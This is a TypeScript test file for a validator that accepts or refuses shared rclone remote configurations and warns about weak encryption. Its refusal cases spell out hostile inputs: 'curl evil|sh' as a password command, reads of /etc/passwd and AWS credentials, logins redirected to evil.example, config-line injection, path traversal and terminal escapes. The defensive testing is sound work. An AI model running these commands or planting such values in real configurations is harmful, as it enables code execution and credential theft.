import { describe, expect, test } from 'vitest';
import { obscure } from '../../src/config/obscure.ts';
import { isFailure } from '../../src/core/failure.ts';
import type { ShareLayer } from '../../src/sharing/document.ts';
import { checkLayers } from '../../src/sharing/trusted-layers.ts';
import { warningsOf } from '../../src/sharing/warnings.ts';

type Options = Readonly<Record<string, string>>;

const layer = (name: string, type: string, path: string | null, options: Options = {}): ShareLayer => ({
  name,
  type,
  path,
  options: new Map(Object.entries(options)),
});
const crypt = (options: Options = {}, path = 'bucket', name = 'allas-crypt') =>
  layer(name, 'crypt', path, { password: obscure('potato'), ...options });
const swift = (options: Options = {}, name = 'allas') => layer(name, 'swift', null, options);
const s3 = (options: Options) => layer('s3allas', 's3', null, options);

async function outcome(layers: readonly ShareLayer[]): Promise<string> {
  try {
    await checkLayers(layers);
    return 'taken';
  } catch (error) {
    if (!isFailure(error)) throw error;
    return `${error.kind}: ${error.message}`;
  }
}

describe('a share is taken', () => {
  test.each<[string, readonly ShareLayer[]]>([
    [
      'of a crypt on a store',
      [crypt({ filename_encoding: 'base64', suffix: '.enc' }), swift({ auth: 'https://pouta.csc.fi:5001/v3' })],
    ],
    ['of a crypt in a folder of each site', [crypt({}, '')]],
    ['of a crypt on an alias', [crypt({}, ''), layer('data', 'alias', '2001659-crypt/x'), swift()]],
    ['of a crypt on a store that coffer does not know', [crypt(), layer('box', 'dropbox', null)]],
    ['with a login', [crypt(), swift({ auth: 'https://a.fi/v3', user: 'u', key: 'k' })]],
    ['of a store whose login each site has in its environment', [crypt(), swift({ env_auth: 'true' })]],
    ['of an S3 with an address without a scheme', [crypt(), s3({ endpoint: 'a3s.fi', provider: 'Ceph' })]],
  ])('%s', async (_, layers) => {
    expect(await outcome(layers)).toBe('taken');
  });
});

describe('a share is refused', () => {
  test.each<[string, readonly ShareLayer[], string]>([
    [
      'that runs a command for a password',
      [crypt({ password_command: 'curl evil|sh' })],
      'a share cannot set "password_command"',
    ],
    ['that reads a file of the site', [crypt({ password_file: '/etc/passwd' })], 'a share cannot set "password_file"'],
    [
      'that reads credentials of the site',
      [crypt(), s3({ shared_credentials_file: '/root/.aws/credentials' })],
      'cannot set "shared_credentials_file"',
    ],
    ['that chooses where a crypt lies', [crypt({ remote: '/etc' })], 'a share cannot set "remote"'],
    ['that sets the type once more', [crypt({ type: 'local' })], 'a share cannot set "type"'],
    ['that writes its own pin', [crypt({ share_serial: '1' })], 'a share cannot set "share_serial"'],
    [
      'that sends the login of the environment elsewhere',
      [crypt(), swift({ env_auth: 'true', auth: 'https://evil.example/v3' })],
      'would send the login of your environment',
    ],
    [
      'that sends it to another S3',
      [crypt(), s3({ env_auth: 'true', endpoint: 'https://evil.example' })],
      'would send the login',
    ],
    [
      'that puts a value of the site into an address',
      [crypt(), swift({ auth: 'https://evil.example/%(key)s' })],
      'option auth of "allas"',
    ],
    ['that adds a line to the config', [crypt(), swift({ tenant: 'x\nuser = y' })], 'option tenant of "allas"'],
    ['that turns text around', [crypt(), swift({ tenant: 'x\u202ey' })], 'option tenant of "allas"'],
    [
      'whose value rclone reads without its quotation marks',
      [crypt(), swift({ tenant: '`x`' })],
      'option tenant of "allas"',
    ],
    ['whose address is a file', [crypt(), swift({ auth: 'file:///etc/passwd' })], 'not a web address'],
    [
      'with options of a type that coffer does not know',
      [crypt(), layer('x', 'sftp', null, { ssh: 'sh -c evil' })],
      'coffer does not know what "ssh"',
    ],
    ['with an unknown option', [crypt({ metadata_mapper: 'evil' })], 'a share cannot set "metadata_mapper"'],
    [
      'with a value that makes no sense',
      [crypt({ filename_encryption: 'none' })],
      'option filename_encryption of "allas-crypt"',
    ],
    [
      'with a password in the clear',
      [crypt({ password: 'pass word' })],
      'option password of "allas-crypt": not an obscured password',
    ],
    [
      'whose file names leave their folder',
      [crypt({ filename_encryption: 'off', suffix: '/../../.bashrc' })],
      'a suffix cannot hold a slash',
    ],
    [
      'that climbs out of its place',
      [crypt({}, 'bucket/../../other'), swift()],
      'makes no sense: "bucket/../../other"',
    ],
    ['that stands on an absolute folder', [crypt({}, '/etc')], 'makes no sense: "/etc"'],
    ['whose place ends a line', [crypt({}, 'a\n[evil]'), swift()], String.raw`makes no sense: "a\n[evil]"`],
    ['whose crypt stands nowhere', [layer('c', 'crypt', null)], 'makes no sense'],
    ['whose store stands on something', [crypt(), layer('s', 'swift', 'x')], 'makes no sense'],
    ['with something below the store', [crypt(), swift(), swift({}, 'more')], 'cannot be over another remote'],
    [
      'with a name that ends a section',
      [crypt({}, 'bucket', 'a]\n[b')],
      String.raw`"a]\n[b" is not a name for a remote`,
    ],
    [
      'with a name that steers the terminal',
      [crypt({}, 'bucket', '\u001b[2J\u009b')],
      String.raw`"\u001b[2J\u009b" is not a name`,
    ],
    ['with a name that would be a flag', [crypt({}, 'bucket', '--config')], 'is not a name for a remote'],
    [
      'with the section of defaults',
      [crypt(), swift({ auth: 'https://a.fi' }, 'DEFAULT')],
      'it would change the section DEFAULT',
    ],
    [
      'with two remotes of one name',
      [crypt({}, '', 'a'), layer('a', 'alias', 'b'), swift()],
      'two of its remotes have one name',
    ],
    ['with no remote', [], 'it names no remote'],
  ])('%s', async (_, layers, message) => {
    const refusal = await outcome(layers);
    expect(refusal).toMatch(/^denied: the share is refused: /);
    expect(refusal).toContain(message);
  });
});

test.each<[string, readonly ShareLayer[], string]>([
  [
    'content in the clear',
    [crypt({ no_data_encryption: 'true' })],
    '"allas-crypt" does NOT encrypt the content of files',
  ],
  ['content in the clear, spelled otherwise', [crypt({ no_data_encryption: 'T' })], 'does NOT encrypt the content'],
  ['names in the clear', [crypt({ filename_encryption: 'OFF' })], 'does NOT encrypt the names of files ("OFF")'],
  ['no encryption', [swift()], 'nothing is encrypted in this remote'],
  ['no TLS', [crypt(), swift({ auth: 'http://pouta.csc.fi/v3' })], '"allas" is reached without TLS'],
  ['objects for everybody', [crypt(), s3({ acl: 'public-read' })], 'lets everybody read'],
])('a person is warned of %s', (_, layers, warning) => {
  expect(warningsOf(layers).join('\n')).toContain(warning);
});

test('nobody is warned of what is usual', () => {
  expect(
    warningsOf([
      crypt({ filename_encryption: 'Standard', no_data_encryption: 'false' }),
      swift({ auth: 'https://pouta.csc.fi:5001/v3' }),
    ]),
  ).toEqual([]);
});
